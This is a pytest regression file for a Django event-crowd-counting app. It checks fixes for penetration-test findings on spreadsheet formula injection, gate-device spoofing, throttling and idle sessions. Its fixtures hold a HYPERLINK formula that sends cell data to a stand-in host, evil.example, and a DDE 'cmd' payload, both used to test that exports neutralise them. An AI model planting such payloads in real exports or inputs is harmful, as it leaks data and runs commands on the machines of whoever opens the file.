"""Regressions of the penetration test (issue 10): formula injection in the statistics exports (finding 5),
one gate-device token blinding its event (finding 7), dashboard polling keeping the idle session alive (17)."""
import csv
import io
from datetime import timedelta

import pytest
from django.contrib.sessions.models import Session
from django.db.models import F
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from eventday.models import Alert, EventTally, GateReading, Zone, ZoneMinute
from eventday.services import readings_ingest
from events.models import Event, Venue

from .factories import device_client, district_reviewer, item, live_event, reading

pytestmark = pytest.mark.django_db
READINGS = "/api/eventday/readings/"

EVENT_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
VENUE_NAME = "=cmd|' /C calc'!A0"


# ---------------------------------------------------------------------------------------------- finding 5


def _export(client, kind):
    live = live_event()
    Event.objects.filter(pk=live.event.pk).update(name=EVENT_NAME)
    Venue.objects.filter(pk=live.event.venue_id).update(name=VENUE_NAME)
    readings_ingest(device=live.device, readings=[reading("east", 1, 300)])
    client.force_login(district_reviewer(live.application))
    year = timezone.localtime(live.event.start_at).year
    response = client.get(f"/eventday/statistics/?year={year}&export={kind}")
    assert response.status_code == 200
    return response.content


@pytest.mark.parametrize("text, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("＝1+1", "'＝1+1"), ("＋1", "'＋1"), ("－1", "'－1"), ("＠x", "'＠x"),
    ("滨湖秋夜音乐会", "滨湖秋夜音乐会"), ("2026-12-01 20:00", "2026-12-01 20:00"), ("", ""),
])
def test_spreadsheet_text_starting_with_a_formula_character_is_neutralised(text, expected):
    from eventday.exports import spreadsheet_text

    assert spreadsheet_text(text) == expected


def test_xlsx_export_writes_formula_like_names_as_text_never_as_formulas(client):
    sheet = load_workbook(io.BytesIO(_export(client, "xlsx"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = [cell.value for cell in cells]
    assert "'" + EVENT_NAME in values and "'" + VENUE_NAME in values
    # Numbers stay numbers.
    entries = next(row for row in sheet.iter_rows(values_only=True) if row and row[0] == "累计入场人次")
    assert entries[1] == 300 and isinstance(entries[1], int)


def test_csv_export_neutralises_formula_like_names_and_keeps_numbers(client):
    rows = list(csv.reader(io.StringIO(_export(client, "csv").decode("utf-8-sig"))))
    event_row = next(row for row in rows if row and row[0].endswith(EVENT_NAME))
    assert event_row[:2] == ["'" + EVENT_NAME, "'" + VENUE_NAME]
    assert event_row[7] == "300"  # the session's entries
    assert ["累计入场人次", "300"] in [row[:2] for row in rows]  # (then last year's figure and the change)
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


# ---------------------------------------------------------------------------------------------- finding 7


def test_a_device_bound_to_one_gate_cannot_report_for_another_gate():
    live = live_event(bound_gates=["east"])
    client = device_client(live.token)
    response = client.post(READINGS, [item("east", 1, 5), item("west", 2, 0, 100_000)], format="json")
    assert response.status_code == 400
    assert set(response.json()) == {"readings[1].gate"}
    assert not GateReading.objects.exists()
    assert Zone.objects.get(pk=live.outer.pk).entries == 0
    assert client.post(READINGS, [item("east", 3, 5)], format="json").json()["accepted"] == 1


def test_the_device_endpoint_lists_only_the_bound_gates():
    live = live_event(bound_gates=["stage"])
    payload = device_client(live.token).get("/api/eventday/device/").json()
    assert [g["code"] for g in payload["gates"]] == ["stage"]


def test_mass_out_readings_cannot_blind_the_event_to_later_arrivals():
    live = live_event()
    client = device_client(live.token)
    # 100,000 "out" on every gate of an empty ground...
    attack = [item(code, i + 1, 0, 100_000) for i, code in enumerate(["east", "west", "stage"])]
    assert client.post(READINGS, attack, format="json").status_code == 200
    # ... then 21,000 arrivals, 200 of them on to the stage front: every figure is real, the alerts fire.
    arrivals = [item("east", 10, 11_000), item("west", 11, 10_000), item("stage", 12, 200)]
    response = client.post(READINGS, arrivals, format="json")
    assert response.status_code == 200
    outer, core = Zone.objects.get(pk=live.outer.pk), Zone.objects.get(pk=live.core.pk)
    assert (outer.occupancy, core.occupancy) == (20_800, 200)
    assert EventTally.objects.get(event=live.event).occupancy == 21_000
    assert {(a["zone"], a["level"]) for a in response.json()["alerts"]} == {
        ("警戒区", "warning"), ("警戒区", "stop_admission"), ("舞台前区", "warning"), ("舞台前区", "stop_admission")}
    # The stored readings keep what the device said; the per-minute flows agree with the running totals.
    assert sum(r.count_out for r in GateReading.objects.all()) == 300_000
    for zone in (outer, core):
        minutes = ZoneMinute.objects.filter(zone=zone)
        assert sum(m.count_in - m.count_out for m in minutes) == zone.entries - zone.exits


def test_negative_net_occupancy_raises_one_alert_until_the_counts_are_plausible_again():
    live = live_event()
    readings_ingest(device=live.device, readings=[reading("east", 1, 10)])
    first = readings_ingest(device=live.device, readings=[reading("west", 2, 0, 50)])
    assert [(a.zone_id, a.level) for a in first.alerts] == [(live.outer.pk, "negative_occupancy")]
    again = readings_ingest(device=live.device, readings=[reading("west", 3, 0, 50)])
    assert again.alerts == []
    assert Zone.objects.get(pk=live.outer.pk).occupancy == 0
    readings_ingest(device=live.device, readings=[reading("east", 4, 5, 2)])  # plausible: re-armed
    readings_ingest(device=live.device, readings=[reading("west", 5, 0, 40)])
    assert Alert.objects.filter(zone=live.outer, level="negative_occupancy").count() == 2
    assert not Alert.objects.filter(zone=live.core).exists()


def test_a_device_is_throttled_after_its_rate_and_other_devices_are_not(settings):
    settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "DEFAULT_THROTTLE_RATES": {
        **settings.REST_FRAMEWORK.get("DEFAULT_THROTTLE_RATES", {}), "gate_device": "3/min"}}
    live, other = live_event(), live_event()
    client = device_client(live.token)
    for sequence in (1, 2, 3):
        assert client.post(READINGS, item("east", sequence, 1), format="json").status_code == 200
    refused = client.post(READINGS, item("east", 4, 1), format="json")
    assert refused.status_code == 429
    assert "Retry-After" in refused
    assert Zone.objects.get(pk=live.outer.pk).entries == 3
    assert device_client(other.token).post(READINGS, item("east", 1, 1), format="json").status_code == 200


# ---------------------------------------------------------------------------------------------- finding 17


def _signed_in_on_dashboard(client):
    live = live_event()
    client.force_login(district_reviewer(live.application))
    assert client.get(f"/eventday/events/{live.event.pk}/").status_code == 200
    return live, Session.objects.get(session_key=client.session.session_key)


def _idle_for(session, minutes):
    """As if the last user action was `minutes` ago (30-minute idle timeout)."""
    session.expire_date = timezone.now() + timedelta(minutes=30 - minutes)
    session.save(update_fields=["expire_date"])
    return session.expire_date


@pytest.mark.parametrize("poll", ["/eventday/events/{pk}/live/", "/api/eventday/events/{pk}/occupancy/"])
def test_dashboard_polling_does_not_extend_the_idle_session(client, poll):
    live, session = _signed_in_on_dashboard(client)
    expiry = _idle_for(session, 29)
    response = client.get(poll.format(pk=live.event.pk), HTTP_HX_REQUEST="true")
    assert response.status_code == 200
    assert Session.objects.get(pk=session.pk).expire_date == expiry
    assert "sessionid" not in response.cookies


def test_a_user_action_still_extends_the_idle_session(client):
    live, session = _signed_in_on_dashboard(client)
    _idle_for(session, 29)
    client.get(f"/eventday/events/{live.event.pk}/")
    assert Session.objects.get(pk=session.pk).expire_date > timezone.now() + timedelta(minutes=29)


def test_after_30_idle_minutes_the_polling_dashboard_is_signed_out(client):
    live, session = _signed_in_on_dashboard(client)
    poll = f"/eventday/events/{live.event.pk}/live/"
    for _step in range(2):  # twenty minutes pass, the dashboard polling all along
        Session.objects.filter(pk=session.pk).update(expire_date=F("expire_date") - timedelta(minutes=10))
        assert client.get(poll, HTTP_HX_REQUEST="true").status_code == 200
    Session.objects.filter(pk=session.pk).update(expire_date=F("expire_date") - timedelta(minutes=10, seconds=1))
    response = client.get(poll, HTTP_HX_REQUEST="true")
    assert response.headers.get("HX-Redirect", "").startswith(reverse("login"))
    assert client.get(f"/eventday/events/{live.event.pk}/").status_code == 302


@pytest.mark.django_db(transaction=True)
def test_a_simulated_day_on_the_demo_ground_is_counted_without_a_count_anomaly(live_server):
    """The demo's device is bound to every gate; real flows (with churn, resends, out of order) never trip the
    bound on exits, and the ground is empty again after the exit surge."""
    from eventday.demo import setup_event
    from eventday.simulator import simulate_gates

    from .factories import approved_application

    event = approved_application().event
    token = setup_event(event)
    report = simulate_gates(base_url=live_server.url, token=token, speed=0, batch_minutes=5, resend_every=3,
                            first_sequence=1)
    assert not report.refused, report.refused
    assert report.duplicates > 0
    assert {a["level"] for a in report.alerts} == {"warning", "stop_admission"}
    assert not Zone.objects.filter(event=event, exits_discarded__gt=0).exists()
    assert EventTally.objects.get(event=event).occupancy == 0


def test_clicks_within_a_minute_write_the_session_once(client):
    """The idle clock moves at most once a minute (accounts/sessions.py): a second click right after the first
    reads the session and writes nothing, so a page saves its three queries (BEGIN, UPDATE, COMMIT)."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    live, session = _signed_in_on_dashboard(client)
    expiry = Session.objects.get(pk=session.pk).expire_date
    with CaptureQueriesContext(connection) as captured:
        client.get(f"/eventday/events/{live.event.pk}/")
    assert not [q for q in captured.captured_queries if "django_session" in q["sql"] and "UPDATE" in q["sql"]]
    assert Session.objects.get(pk=session.pk).expire_date == expiry
    _idle_for(session, 2)  # two minutes later, a click extends it again
    client.get(f"/eventday/events/{live.event.pk}/")
    assert Session.objects.get(pk=session.pk).expire_date > timezone.now() + timedelta(minutes=29)
